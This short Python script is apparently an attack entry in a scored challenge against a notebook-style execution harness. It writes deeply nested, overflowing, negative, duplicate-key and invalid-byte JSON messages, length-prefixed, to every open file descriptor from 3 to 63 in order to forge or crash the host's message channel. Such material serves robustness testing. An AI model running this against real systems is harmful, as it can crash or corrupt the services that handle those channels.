# attack: writes messages that are hard to read: deep, endless, negative, doubled
# family: forging
# base: solved
# points: 7
# %% last
import os, struct
for text in (
    b"[" * 200_000,
    b'{"blobs": [-1]}',
    b'{"blobs": [true, 1e999, NaN]}',
    b'{"blobs": [' + b"9" * 5_000 + b"]}",
    b'{"blobs": [], "blobs": {}}',
    b'{"cell": 0, "outputs": [{"output_type": [], "text": {}}], "blobs": []}',
    b"\xff\xfe" * 50,
):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(text)) + text)
        except OSError:
            pass
